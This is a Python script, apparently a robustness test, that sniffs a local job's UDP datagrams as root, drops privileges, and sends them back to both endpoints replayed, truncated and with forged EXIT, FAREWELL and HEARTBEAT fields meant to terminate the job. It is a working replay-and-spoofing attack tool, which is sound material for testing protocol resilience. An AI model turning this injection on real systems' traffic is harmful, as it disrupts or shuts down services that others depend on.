# SPDX-License-Identifier: Apache-2.0
"""heartbeat_stranger.py SECONDS: records the datagrams of a job on this host, and attacks it.

It records as root, which a stranger could not, and gives its rights up. Then it sends each recorded
datagram to its receiver and to its sender: again, cut, and with changed parts that would end the
job if they were believed. Prints as JSON how many datagrams were recorded on which interface, and
how many were sent.
"""

import collections
import json
import os
import socket
import struct
import sys
import time

IP, UDP = 0x0800, 17
HEADER = 24  # bytes before the message: code, sender, receiver, counter
EXIT, FAREWELL, HEARTBEAT = 2, 1, 0  # kinds of a message


def forgeries(data):
    """Yields changed forms of a datagram."""
    yield data
    for length in (0, 8, HEADER, len(data) - 1):
        yield data[:length]
    yield data + b"x"
    for kind in (EXIT, FAREWELL, HEARTBEAT):
        for at in (16, HEADER):
            yield data[:at] + struct.pack("<q", kind) + data[at + 8 :]
        for sender, receiver in ((0, 1), (1, 0)):
            header = data[:8] + struct.pack("<iiQ", sender, receiver, 1 << 62)
            yield header + struct.pack("<q", kind) + data[HEADER + 8 :]


def main():
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(IP))
    os.setgid(65534)
    os.setuid(65534)
    raw.settimeout(0.2)
    ordinary = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    recorded, sent = collections.Counter(), 0
    end = time.monotonic() + float(sys.argv[1])
    while time.monotonic() < end:
        try:
            packet, (interface, *_) = raw.recvfrom(4096)
        except socket.timeout:
            continue
        begin = 4 * (packet[0] & 15)
        if packet[9] != UDP:
            continue
        ports = struct.unpack_from(">HH", packet, begin)
        data = packet[begin + 8 :]
        if ordinary.getsockname()[1] in ports or len(data) < 400:
            continue
        recorded[interface] += 1
        addresses = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
        for forged in forgeries(data):
            for place in zip(addresses, ports):
                try:
                    ordinary.sendto(forged, place)
                    sent += 1
                except OSError:
                    pass
    print(json.dumps({"recorded": recorded, "sent": sent}))


if __name__ == "__main__":
    main()
